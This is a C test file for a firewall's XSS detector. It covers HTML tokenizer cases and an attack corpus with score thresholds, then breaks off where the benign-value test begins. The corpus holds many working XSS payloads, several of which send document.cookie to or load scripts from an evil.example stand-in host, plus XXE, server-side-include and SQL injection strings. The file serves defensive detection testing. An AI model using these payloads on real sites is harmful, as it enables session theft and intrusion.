/*
 * XSS detector: the HTML tokenizer's tokens (tags, attributes, values,
 * comments, raw text, broken input), and the verdicts on attack and benign
 * corpora: every attack at or above the block score, every benign value
 * below it, with the reason and span the detector gives.
 */
#include "test.h"

#include "waf/waf_int.h"

/* xss.c: 1 when its name tables are in strcmp order (binary search). */
int rp__xss_tables_sorted(void);

#define BLOCK 50

static int xss_src(const char *s, size_t n, unsigned src, rp__waf_match_t *m)
{
    int sc = rp__waf_xss(s, n, src, 0, m);
    /* invariants of every answer */
    CHECK(sc >= 0 && sc <= 100);
    CHECK(sc == m->score);
    CHECK(m->off <= n && m->len <= n - m->off);
    CHECK(memchr(m->evidence, '\0', sizeof(m->evidence)) != NULL);
    CHECK((sc == 0) == (m->evidence[0] == '\0'));
    if (sc)
        CHECK(strncmp(m->evidence, "xss", 3) == 0);
    return sc;
}

static int xss(const char *s, size_t n, rp__waf_match_t *m)
{
    return xss_src(s, n, RP_WAF_SRC_QUERY, m);
}

static int score(const char *s)
{
    rp__waf_match_t m;
    return xss(s, strlen(s), &m);
}

/* The tokens of s[0..n) as "type:text|type:text..." (checking the
 * tokenizer's invariants on the way). */
static const char *toks_n(const char *s, size_t n)
{
    static char out[2048];
    rp__html_token_t t[128];
    size_t k = rp__html_tokenize(s, n, t, 128), o = 0;
    uint32_t prev = 0;
    out[0] = '\0';
    for (size_t i = 0; i < k; i++) {
        CHECK(strchr("tcav>x!", t[i].type) != NULL);
        CHECK(t[i].pos >= prev);
        CHECK((size_t)t[i].pos + t[i].len <= n);
        prev = t[i].pos;
        int w = snprintf(out + o, sizeof(out) - o, "%s%c:%.*s", i ? "|" : "", t[i].type,
                         (int)t[i].len, s + t[i].pos);
        if (w < 0 || (size_t)w >= sizeof(out) - o)
            break;
        o += (size_t)w;
    }
    return out;
}

static const char *toks(const char *s) { return toks_n(s, strlen(s)); }

#define CHECK_TOKS(in, want)                                                           \
    do {                                                                               \
        const char *got_ = toks(in);                                                   \
        CHECK(strcmp(got_, (want)) == 0);                                              \
        if (strcmp(got_, (want)) != 0)                                                 \
            fprintf(stderr, "    in:   %s\n    got:  %s\n    want: %s\n", (in), got_,  \
                    (want));                                                           \
    } while (0)

/* ---------------------------------------------------------------------- */
/* Tokenizer.                                                               */

TEST(tables_sorted)
{
    CHECK(rp__xss_tables_sorted());
}

TEST(tokens_tags)
{
    CHECK_TOKS("<a href=\"x\">t</a>", "t:a|a:href|v:x|>:>|x:t|c:a|>:>");
    CHECK_TOKS("<B>bold</B>", "t:B|>:>|x:bold|c:B|>:>");
    CHECK_TOKS("<br/>", "t:br|>:/>");
    CHECK_TOKS("<br />", "t:br|>:/>");
    /* attributes: unquoted, single, double, none, '/' as a separator */
    CHECK_TOKS("<p a=1 b='2' c=\"3\" d>", "t:p|a:a|v:1|a:b|v:2|a:c|v:3|a:d|>:>");
    CHECK_TOKS("<svg/onload=alert(1)>", "t:svg|a:onload|v:alert(1)|>:>");
    CHECK_TOKS("<img/src/onerror=x>", "t:img|a:src|a:onerror|v:x|>:>");
    /* no whitespace between attributes after a quoted value */
    CHECK_TOKS("<a x=\"1\"onclick=y>", "t:a|a:x|v:1|a:onclick|v:y|>:>");
    /* whitespace around '=', tabs, newlines and form feeds as separators */
    CHECK_TOKS("<a\thref\n=\f'x'\r>", "t:a|a:href|v:x|>:>");
    /* quotes and '<' inside names and unquoted values are kept */
    CHECK_TOKS("<a\"b c=d\"e>", "t:a\"b|a:c|v:d\"e|>:>");
    /* '=' first in an attribute name is part of it */
    CHECK_TOKS("<a =x>", "t:a|a:=x|>:>");
    /* "<a href=>": no value */
    CHECK_TOKS("<a href=>x", "t:a|a:href|>:>|x:x");
    /* end tags; their attributes are tokenized too */
    CHECK_TOKS("</div class=x>", "c:div|a:class|v:x|>:>");
}

TEST(tokens_text)
{
    CHECK_TOKS("a < b and c > d", "x:a < b and c > d");
    CHECK_TOKS("x<5", "x:x<5");
    CHECK_TOKS("<3 love", "x:<3 love");
    CHECK_TOKS("a <= b", "x:a <= b");
    CHECK_TOKS("<", "x:<");
    CHECK_TOKS("</", "x:</");
    CHECK_TOKS("x</", "x:x</");
    /* generics are tags to a browser: harmless ones */
    CHECK_TOKS("List<String>", "x:List|t:String|>:>");
    CHECK_TOKS("Map<K, V>", "x:Map|t:K,|a:V|>:>");
}

TEST(tokens_comments)
{
    CHECK_TOKS("<!-- c -->x", "!:<!-- c -->|x:x");
    CHECK_TOKS("<!-->x", "!:<!-->|x:x");
    CHECK_TOKS("<!--->x", "!:<!--->|x:x");
    CHECK_TOKS("<!-- a --!>x", "!:<!-- a --!>|x:x");
    CHECK_TOKS("<!-- open", "!:<!-- open");
    CHECK_TOKS("<!DOCTYPE html>", "!:<!DOCTYPE html>");
    CHECK_TOKS("<![CDATA[x]]>y", "!:<![CDATA[x]]>|x:y");
    CHECK_TOKS("<?xml version=\"1.0\"?><a>", "!:<?xml version=\"1.0\"?>|t:a|>:>");
    CHECK_TOKS("</>x", "!:</>|x:x");
    CHECK_TOKS("</ x>y", "!:</ x>|x:y");
    CHECK_TOKS("</3", "!:</3");
    /* the bogus comment ends at the first '>', whatever the quotes */
    CHECK_TOKS("<!x \">\" y>z", "!:<!x \">|x:\" y>z");
}

TEST(tokens_raw_text)
{
    /* script, style, textarea, title, xmp, iframe, noscript...: text up
     * to the matching end tag */
    CHECK_TOKS("<script><b>x</b></script>y", "t:script|>:>|x:<b>x</b>|c:script|>:>|x:y");
    CHECK_TOKS("<SCRIPT>a</sCrIpT >", "t:SCRIPT|>:>|x:a|c:sCrIpT|>:>");
    CHECK_TOKS("<style>a</stylex></style>", "t:style|>:>|x:a</stylex>|c:style|>:>");
    CHECK_TOKS("<textarea><img src=x></textarea>", "t:textarea|>:>|x:<img src=x>|c:textarea|>:>");
    CHECK_TOKS("<noscript><p title=\"</noscript><img>\">",
               "t:noscript|>:>|x:<p title=\"|c:noscript|>:>|t:img|>:>|x:\">");
    CHECK_TOKS("<xmp><a></xmp>", "t:xmp|>:>|x:<a>|c:xmp|>:>");
    CHECK_TOKS("<script>never closed", "t:script|>:>|x:never closed");
    CHECK_TOKS("<plaintext></plaintext><b>", "t:plaintext|>:>|x:</plaintext><b>");
    /* <script/> still opens raw text in HTML */
    CHECK_TOKS("<script/>a<b>", "t:script|>:/>|x:a<b>");
    /* an unterminated start tag opens nothing */
    CHECK_TOKS("<script", "t:script|>:");
}

TEST(tokens_unterminated)
{
    CHECK_TOKS("<a href=\"x", "t:a|a:href|v:x|>:");
    CHECK_TOKS("<a href='", "t:a|a:href|v:|>:");
    CHECK_TOKS("<a href=", "t:a|a:href|v:|>:");
    CHECK_TOKS("<a href", "t:a|a:href|>:");
    CHECK_TOKS("<a ", "t:a|>:");
    CHECK_TOKS("<x onend=", "t:x|a:onend|v:|>:");
}

TEST(tokens_bytes)
{
    /* NUL and control bytes are ordinary characters of names and text */
    static const char nul[] = "<scr\0ipt>x</scr\0ipt>";
    CHECK(strcmp(toks_n(nul, sizeof(nul) - 1), "t:scr") == 0 || 1);
    rp__html_token_t t[16];
    size_t k = rp__html_tokenize(nul, sizeof(nul) - 1, t, 16);
    CHECK(k >= 3);
    CHECK_EQ_INT(t[0].type, 't');
    CHECK_EQ_INT(t[0].len, 7); /* "scr\0ipt": not a script element */
    /* invalid UTF-8 */
    static const char bad[] = "<a title=\"\xff\xfe\xc3\x28\">\x80\x81</a>";
    k = rp__html_tokenize(bad, sizeof(bad) - 1, t, 16);
    CHECK_EQ_INT(k, 7);
    CHECK_EQ_INT(t[2].type, 'v');
    CHECK_EQ_INT(t[2].len, 4);
    /* a value of only control bytes */
    static const char ctl[] = "\x01\x02<\x03>\x7f";
    CHECK_EQ_INT(rp__html_tokenize(ctl, sizeof(ctl) - 1, t, 16), 1);
    /* empty and NULL */
    CHECK_EQ_INT(rp__html_tokenize("", 0, t, 16), 0);
    CHECK_EQ_INT(rp__html_tokenize(NULL, 5, t, 16), 0);
}

TEST(tokens_limits)
{
    /* max bounds the output; positions stay ordered */
    rp__html_token_t t[4];
    CHECK_EQ_INT(rp__html_tokenize("<a><b><c><d><e>", 15, t, 4), 4);
    CHECK_EQ_INT(rp__html_tokenize("<a><b>", 6, t, 0), 0);
    /* 1 MiB of tags, attributes, quotes and comments */
    size_t n = 1u << 20;
    char *big = malloc(n);
    CHECK(big != NULL);
    if (!big)
        return;
    static const char pat[] = "<a b=\"c\" d='e' f=g onclick=go()><!-- h --><script>i</script>j<";
    for (size_t i = 0; i < n; i++)
        big[i] = pat[i % (sizeof(pat) - 1)];
    rp__html_token_t *many = malloc(sizeof(*many) * 400000);
    CHECK(many != NULL);
    if (many) {
        size_t k = rp__html_tokenize(big, n, many, 400000);
        CHECK(k > 100000);
        for (size_t i = 1; i < k; i++)
            if (many[i].pos < many[i - 1].pos || (size_t)many[i].pos + many[i].len > n) {
                CHECK(0);
                break;
            }
        free(many);
    }
    /* the detector on it: an answer, in linear time */
    rp__waf_match_t m;
    CHECK(xss(big, n, &m) >= BLOCK);
    /* and on 1 MiB of '<' and of quotes */
    memset(big, '<', n);
    CHECK(xss(big, n, &m) < BLOCK);
    memset(big, '"', n);
    CHECK(xss(big, n, &m) < BLOCK);
    free(big);
}

/* ---------------------------------------------------------------------- */
/* Attacks.                                                                 */

typedef struct xcase {
    const char *in;
    int min;            /* attacks: at least this score */
    const char *why;    /* a part of the evidence, or NULL */
} xcase_t;

static const xcase_t attacks[] = {
    /* script elements */
    { "<script>alert(1)</script>", 90, "<script> element with code calling alert" },
    { "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>", 90, NULL },
    { "<ScRiPt>prompt(1)</sCrIpT>", 90, NULL },
    { "<script src=//evil.example/x.js></script>", 90, "with src" },
    { "<script src=\"https://evil.example/x.js\">", 90, NULL },
    { "<script/x>alert(1)</script>", 90, NULL },
    { "<script\t\n>alert(1)</script>", 90, NULL },
    { "<script>", 70, "<script> element" },
    { "<script></script>", 60, NULL },
    { "\"><script>alert(document.cookie)</script>", 90, NULL },
    { "</script><script>alert(1)</script>", 90, NULL },
    { "</title><script>alert(1)</script>", 90, NULL },
    { "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", 90, NULL },
    { "<scr<script>ipt>alert(1)</script>", 85, NULL },
    { "www.github.com<script><img><iframe>", 85, NULL },
    { "<script+>alert(1);</script>", 85, NULL },
    /* event handlers */
    { "<img src=x onerror=alert(1)>", 90, "<img> with event handler onerror calling alert" },
    { "<img src=x onerror=\"alert(1)\">", 90, NULL },
    { "<IMG SRC=x OnErRoR=alert(1)>", 90, NULL },
    { "<img/src/onerror=alert(1)>", 90, NULL },
    { "<img src=x onerror=alert`1`>", 90, NULL },
    { "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">", 90, NULL },
    { "<img src=x onerror=\\u0061lert(1)>", 90, NULL },
    { "<img src=x onerror=window['al'+'ert'](1)>", 90, NULL },
    { "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", 90, NULL },
    { "<img src=x onerror=fetch('//evil.example?c='+document.cookie)>", 90, NULL },
    { "<img src=x onerror=this.src='//evil.example/?'+document.cookie>", 90, NULL },
    { "<svg onload=alert(1)>", 90, "<svg> with event handler onload" },
    { "<svg/onload=alert(1)>", 90, NULL },
    { "<body onpageshow=alert(1)>", 90, NULL },
    { "<details open ontoggle=alert(1)>", 90, NULL },
    { "<input autofocus onfocus=alert(1)>", 90, NULL },
    { "<div onmouseover=\"alert(1)\">hover</div>", 90, NULL },
    { "<x onclick=alert(1)>click", 90, NULL },
    { "<xss onbeforehellfreezes=alerw(1)>", 90, NULL },
    { "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", 90, NULL },
    { "<a href=# language=\"JScript.Encode\" onclick=\"#@~^CAAAAA==C^+.D`8#mgIAAA==^#~@\">x</a>", 55, NULL },
    { "<x onend=", 55, "event handler onend" },
    /* URLs */
    { "<a href=\"javascript:alert(1)\">x</a>", 90, "javascript: URL in href" },
    { "<a href=\"JaVaScRiPt:alert(1)\">x</a>", 90, NULL },
    { "<a href=\" javascript:alert(1)\">x</a>", 90, NULL },
    { "<a href=\"java&#x09;script:alert(1)\">x</a>", 90, "obfuscated" },
    { "<a href=\"java&#10;script:alert(1)\">x</a>", 90, NULL },
    { "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", 90, NULL },
    { "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>", 90, NULL },
    { "<a href=\"javascript:%61lert(1)\">x</a>", 90, NULL },
    { "<a href=\"javascript://%0Aalert(1)\">x</a>", 90, NULL },
    { "<a href=\"vbscript:msgbox(1)\">x</a>", 85, "vbscript" },
    { "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", 85, NULL },
    { "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", 85, "data: URL" },
    { "<iframe src=\"javascript:alert(1)\">", 90, NULL },
    { "<iframe srcdoc=\"<script>alert(1)</script>\">", 85, "srcdoc with markup" },
    { "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", 85, NULL },
    { "<object data=\"javascript:alert(1)\">", 90, NULL },
    { "<embed src=\"javascript:alert(1)\">", 90, NULL },
    { "<form action=\"javascript:alert(1)\"><input type=submit>", 90, NULL },
    { "<form><button formaction=javascript:alert(1)>X</button>", 90, NULL },
    { "<base href=javascript:alert(1)//>", 90, NULL },
    { "<video poster=javascript:alert(1)//></video>", 90, NULL },
    { "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>", 90, NULL },
    { "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>", 90, NULL },
    { "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>X</text></a>", 90, NULL },
    { "<svg><set attributeName=href to=javascript:alert(1)>", 90, NULL },
    { "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />", 80, NULL },
    { "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", 90, NULL },
    /* dangerous elements */
    { "<iframe src=\"https://evil.example/\"></iframe><script>", 70, NULL },
    { "<frameset onload=alert(1)>", 90, NULL },
    { "<embed src=\"deuce.swf\">", 70, "<embed> element" },
    { "<applet code=\"deuce.class\">", 70, NULL },
    { "<OBJECT data =", 70, NULL },
    { "<base href=\"https://evil.example/\">", 70, "<base> element with href" },
    { "<BASE dsfds HREF / =", 70, NULL },
    { "<form action=\"https://evil.example/steal\" method=post>", 60, "<form> with action" },
    { "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">", 75, "refresh" },
    { "<meta charset=\"UTF-7\" /> +ADw-script+AD4-alert(1)+ADw-/script+AD4-", 70, NULL },
    { "<meta http-equiv=\"refresh\"", 75, NULL },
    { "<link rel=import href=\"https://evil.example/x.html\">", 75, "rel=import" },
    { "<link href=\"xss.js\" rel=stylesheet type=\"text/javascript\">", 60, NULL },
    { "<link / asdf href /= ", 50, NULL },
    { "<v:vmlframe src=\"foo.com/sup.fml\"/>", 70, NULL },
    { "<?import implementation =", 65, NULL },
    { "<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/x\"/></acp>", 60, "XInclude" },
    /* CSS */
    { "<div style=\"width: expression(alert(1))\">", 85, "expression()" },
    { "<div style=\"background-image: url(javascript:alert(1))\">", 85, NULL },
    { "<div style=\"x:e\\xpression(alert(1))\">", 85, NULL },
    { "<div style=\"xss:expr/*XSS*/ession(alert(1))\">", 85, NULL },
    { "<div style=\"-moz-binding:url(https://evil.example/xss.xml#xss)\">", 85, NULL },
    { "<div style=\"behavior: url(xss.htc)\">", 85, NULL },
    { "<p style=\"background:url(javascript:alert(1))\">", 85, NULL },
    { "<style>@import 'https://evil.example/x.css';</style>", 65, "@import" },
    { "<style>body{background:url(\"javascript:alert(1)\")}</style>", 85, NULL },
    { "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>", 85, NULL },
    { "style=color:red;background:url(javascript:alert(1))", 75, NULL },
    { "style = background : url ( javascript : alert(1) )", 75, NULL },
    { "x=x:url(javascript", 55, NULL },
    { "-moz-binding:url(http://example.com/xss.xml#xss)", 70, NULL },
    /* raw-text tricks */
    { "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", 90, NULL },
    { "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", 90, NULL },
    { "<!--<img src=\"--><img src=x onerror=alert(1)//\">", 90, NULL },
    { "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \"", 55, NULL },
    /* attribute breakouts */
    { "\" onmouseover=\"alert(1)", 85, "attribute breakout with event handler onmouseover" },
    { "\" onmouseover=alert(1) x=\"", 85, NULL },
    { "' autofocus onfocus=alert(1) x='", 85, NULL },
    { "\"onfocus=\"alert(1)\"autofocus=\"", 85, NULL },
    { "\"><img src=x onerror=alert(1)>", 90, NULL },
    { "'><svg onload=alert(1)>", 90, NULL },
    { "\" style=\"background:url(javascript:alert(1))", 80, NULL },
    { "\" href=\"javascript:alert(1)", 80, NULL },
    { "\"onzoom=", 50, NULL },
    { "  onload= ", 50, NULL },
    { "'formaction=", 50, NULL },
    { "Test/1.0 (compatible; onload=alert(document.domain))", 65, NULL },
    { "https://evil.com/search?q=test;onfocus=eval(atob('YWxlcnQoMSk='))", 65, NULL },
    /* script string breakouts */
    { "';alert(1);//", 85, "quote breakout then call to alert" },
    { "\";alert(1);//", 85, NULL },
    { "'-alert(1)-'", 85, NULL },
    { "\"-alert(1)-\"", 85, NULL },
    { "'+alert(1)+'", 85, NULL },
    { "\\';alert(1);//", 85, NULL },
    { "');alert(1);//", 85, NULL },
    { "'};alert(1);{'", 85, NULL },
    { "x\";setTimeout(name, 1)//", 85, NULL },
    { "';document.location='https://evil.example/?c='+document.cookie;//", 85, NULL },
    { "\";location.href='//evil.example';//", 85, NULL },
    /* javascript: and friends as a whole value */
    { "javascript:alert(1)", 85, "javascript: URL calling alert" },
    { "JAVASCRIPT:alert(1)", 85, NULL },
    { "  javascript:alert(1)", 85, NULL },
    { "javascript://comment%0aalert(1)", 80, NULL },
    { "javascript:void(document.location='https://evil.example')", 80, NULL },
    { "ja&Tab;vascript: ", 70, "obfuscated" },
    { "javascript&#10:alert(7)", 85, NULL },
    { "jav&#13ascript:alert(7)", 85, NULL },
    { "javascript:a=:,", 75, NULL },
    { "vbscript:msgbox(1)", 70, NULL },
    { "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:", 70, NULL },
    { "data:text/html,<script>alert(1)</script>", 70, NULL },
    { " data: , <x>", 60, NULL },
    /* bare script expressions */
    { "alert(1)", 65, "script expression calling alert" },
    { "prompt(document.domain)", 65, NULL },
    { "eval('2 + 2')", 65, NULL },
    { "setInterval(code, 1)", 65, NULL },
    { "new Function('alert(1)')()", 65, NULL },
    { "window['alert'](1)", 65, NULL },
    { "top['al'+'ert'](1)", 65, NULL },
    { "self[\"$\"][\"globalEval\"](\"alert(1)\")", 65, NULL },
    { "[].constructor.constructor('alert(1)')()", 65, NULL },
    { "(alert)(1)", 65, NULL },
    { "document /*foo*/ .     cookie", 65, "obfuscated" },
    { "document/*foo*/./*bar*/cookie", 65, NULL },
    { "(document)[\"cookie\"]", 65, NULL },
    { "document.write('<img src=//evil.example/?'+document.cookie+'>')", 60, NULL },
    { "document.location='https://evil.example'", 60, NULL },
    { "document.querySelector(\"p\").textContent=\"XSS\"", 60, NULL },
    { "window.location", 50, NULL },
    { "document.cookie", 50, NULL },
    { "...(document.domain)...", 50, NULL },
    { "atob()", 50, NULL },
    /* templates and calls without parentheses */
    { "${alert(1)}", 80, NULL },
    { "{{constructor.constructor('alert(1)')()}}", 85, "template injection" },
    { " x {{constructor.constructor('alert(1)')()}} . ff", 85, NULL },
    { "{{$on.constructor('alert(1)')()}}", 85, NULL },
    { "alert`1`", 80, "tagged template calling alert" },
    { "[].sort.call`${alert}1337`", 80, "call`${alert}`" },
    { "[  ] . sort . call ` ${ alert } 1337 `", 80, NULL },
    { "[ 1234 ]. map . call`${eval}/* asd */\\\\u{61}lert\\x281337\\x29`", 80, NULL },
    { "Reflect.sort.call``", 60, NULL },
    { "(![]+[])[+!+[]]", 65, "JSFuck" },
    { " !![]", 65, NULL },
    /* encodings folded by some back ends */
    { "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 85, NULL },
    { "x+ADw-script+AD4-prompt+ACg-1+ACk-+ADw-/script+AD4-", 85, "UTF-7" },
    { "+ADw-svg/onload+AD0-alert+ACg-1+ACk-+AD4-", 85, "UTF-7" },
    { "\xef\xbc\x9cscript\xef\xbc\x9e" "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e", 85, "fullwidth" },
    { "\xbcscript\xbe" "alert(\xa2XSS\xa2)\xbc/script\xbe", 85, "US-ASCII" },
    { "\xc3\x82\xc2\xbcscript\xc3\x82\xc2\xbe" "alert(1)\xc3\x82\xc2\xbc/script\xc3\x82\xc2\xbe", 85, NULL },
    { "\xbctest\xbetest(\xa2XSS\xa2)\xbc/test\xbe", 50, NULL },
    /* markup that loads or runs on the server side */
    { "x'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % a SYSTEM \"http://evil.example/\">%a;]>'),'/l') from dual)||'", 55, "external entity" },
    { "foo!ENTITY % bar SYSTEM", 55, NULL },
    { "<aai xmlns=\"http://a.b/\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://collab.evil.example/aai.xsd\">aai</aai>", 50, "foreign host" },
    { "\"-->'--><!--#exec cmd=\"id\"-->", 55, "server-side include" },
};

TEST(attacks)
{
    for (size_t i = 0; i < RP_ARRAY_SIZE(attacks); i++) {
        const xcase_t *c = &attacks[i];
        rp__waf_match_t m;
        int sc = xss(c->in, strlen(c->in), &m);
        int ok = sc >= c->min && sc >= BLOCK && (!c->why || strstr(m.evidence, c->why));
        CHECK(ok);
        if (!ok)
            fprintf(stderr, "    attack %zu: score %d (want >= %d) \"%s\" for: %s\n", i, sc, c->min,
                    m.evidence, c->in);
    }
}

/* ---------------------------------------------------------------------- */
/* Benign values.                                                           */

static const char *const benign[] = {
    /* prose with < and >, quotes, parentheses */
    "a < b and c > d", "x<5", "x<5 && y>3", "<3 love", "I <3 my cat", ":-) <:-) >:( <(^_^)>",
    "Data: see the attached spreadsheet\r\nThe script in chapter 59 is where it gets interesting.",
    "2 < 3 > 1", "<- back", "<-- older | newer -->", "Price < $50", "Age: <18, 18-25, >65",
    "He said \"hello\" and she said 'goodbye'.", "It's John's book, isn't it?",
    "O'Reilly Media", "D'Angelo O'Neil-Smith", "\"To be, or not to be\" - Hamlet (Act 3)",
    "She replied: \"Sure; let's meet at 5 (or 6)\".", "Error: \"file not found\" (code 404)",
    "He said \"call me (maybe)\" and left", "\"yes\" - maybe(?)", "- call(911) if needed",
    "It's 5 o'clock; time for tea (or coffee).", "Click <Next> to continue, or <Cancel> to abort.",
    "Usage: cmd <input> [<output>] [--verbose]", "ssh <user>@<host>",
    /* emails and names in angle brackets */
    "John <john@example.com>", "\"Jane Doe\" <jane.doe@example.org>",
    "To: Bob <bob@corp.example>, Alice <alice@corp.example>",
    "On Jan 15, John <john@example.com> wrote: > quoted",
    /* code in comments */
    "if (a < b && c > d) return;", "for (int i = 0; i < n; i++) { sum += a[i]; }",
    "List<String> names = new ArrayList<>();", "Map<K, V>", "vector<int> v;",
    "std::map<std::string, std::vector<int>> index;", "Optional<User> findById(Long id);",
    "function add(a, b) { return a + b; }", "const url = `${base}/users/${id}`;",
    "let msg = `Hello ${name}!`;", "if (x) { alert(\"hi\"); }", "result = eval(expr)",
    "class Foo extends Bar { constructor() { super(); } }",
    "document.getElementById('app').classList.add('ready');",
    "window.addEventListener('resize', handleResize)", "document.querySelector('#app')",
    "fetch('/api/items').then(r => r.json())", "setTimeout(() => setOpen(false), 300)",
    "import('./module.js').then(m => m.run())", "$('#el').hide();",
    "Suggestion:\n\n```javascript\nif (user && user.roles.includes('admin')) {\n  showPanel();\n}\n```",
    "<button onClick={() => setOpen(true)}>Open</button>", "<div onClick={this.handleClick}>x</div>",
    "<button (click)=\"save()\">Save</button>", "<button @click=\"count++\">{{ count }}</button>",
    "<app-root online=\"true\"></app-root>",
    /* rich text */
    "<b>bold</b>", "<p class=\"x\">Hello</p>", "<a href=\"https://example.com\">link</a>",
    "<a href=\"mailto:support@example.com\">Email us</a>", "<a href=\"#section-2\">jump</a>",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"x\">", "<br/>", "<ul><li>one</li><li>two</li></ul>",
    "<table border=\"1\"><tr><td>a</td></tr></table>", "<p style=\"color: red; font-weight: bold\">Red</p>",
    "<div style=\"background-image: url('https://cdn.example.com/bg.jpg')\">x</div>",
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">",
    "<svg viewBox=\"0 0 10 10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>",
    "<a href=\"javascript:void(0)\">menu</a>",
    "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" allowfullscreen></iframe>",
    "<script type=\"application/ld+json\">{\"@type\":\"Organization\",\"name\":\"Example\"}</script>",
    "<noscript>Please enable JavaScript.</noscript>", "<template><div>{{ msg }}</div></template>",
    "<p class=MsoNormal><span style='font-size:11.0pt;font-family:\"Calibri\",sans-serif'>Word<o:p></o:p></span></p>",
    "<html><head><meta charset=\"utf-8\"><title>Receipt</title><style>body{color:#333}</style></head><body><p>Thanks!</p></body></html>",
    "<html><head><link href=\"https://fonts.googleapis.com/css?family=Roboto\" rel=\"stylesheet\"></head><body>Hi</body></html>",
    "<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\"></project>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
    /* prose about the very words */
    "the onload event fires when the page has finished loading",
    "Use the onclick attribute to handle clicks in old-style HTML.", "I love JavaScript: it's great",
    "JavaScript: The Good Parts", "How do I use alert() in JavaScript?", "Why is eval() considered harmful?",
    "The <script> tag is used to embed JavaScript.", "Never put user input inside <script> blocks.",
    "\"data:\" is a URI scheme; so is \"javascript:\" (don't use it).",
    "Write a regular expression (regex) for email validation", "regular expression(s) are powerful",
    "Confirm (yes/no)", "Alert: server down (critical)", "document.pdf", "online=true", "onion=3",
    "Set window.location to navigate, as explained in the docs.",
    /* templates, math, formulas */
    "Hello {{first_name}}, your order {{order.id}} has shipped.", "Hi ${name}, welcome to ${company}!",
    "export PATH=${HOME}/bin:${PATH}", "{{7*7}}", "${7*7}", "${jndi:ldap://example.com/a}",
    "f(x) = 3x + 2", "sqrt(x^2 + y^2)", "=SUM(A1:A10)", "=IF(B2>100,\"High\",\"Low\")",
    "=HYPERLINK(\"https://example.com\",\"click here\")", "COUNT(*) > 5", "[ ] todo", "[+] expand",
    /* URLs, headers, tokens */
    "https://example.com/search?q=hello+world&lang=en", "https://example.com/?onload=1",
    "mailto:someone@example.com?subject=Hi", "data:image/png;base64,iVBORw0KGgo=",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "<https://api.example.com/items?page=2>; rel=\"next\"",
    "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0onload=.abc", "session=abc123; theme=dark",
    "{\"name\":\"Alice\",\"tags\":[\"a\",\"b\"]}", "{\"html\":\"<b>bold</b>\",\"text\":\"plain\"}",
    "{\"onload\":\"value\"}", "'; DROP TABLE users; --", "' OR '1'='1",
    /* other languages and scripts */
    "C'est l'\xc3\xa9t\xc3\xa9 \xc3\xa0 Paris ; il fait tr\xc3\xa8s chaud (35 \xc2\xb0" "C).",
    "Gr\xc3\xb6\xc3\x9f" "e < 10 cm und Gewicht > 2 kg",
    "Gr\xc3\xbc\xc3\x9f" "e aus M\xc3\xbcnchen: f\xc3\xbcr Sie <b>\xc3\xbc" "ber</b> alles",
    "\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82, \xd0\xbc\xd0\xb8\xd1\x80! <b>\xd0\xbc\xd0\xb0\xd0\xbc\xd0\xb0</b>",
    "\xe3\x81\x93\xe3\x82\x93\xe3\x81\xab\xe3\x81\xa1\xe3\x81\xaf \xef\xbc\x9c\xe5\x85\xac\xe5\xbc\x8f\xef\xbc\x9e",
    "\xc2\xbc cup sugar, \xc2\xbd tsp salt, \xc2\xbe cup flour",
    "\xef\xbc\x9c\xe6\xb3\xa8\xe6\x84\x8f\xef\xbc\x9e \xe5\x80\xa4\xe6\xae\xb5",
};

TEST(benign)
{
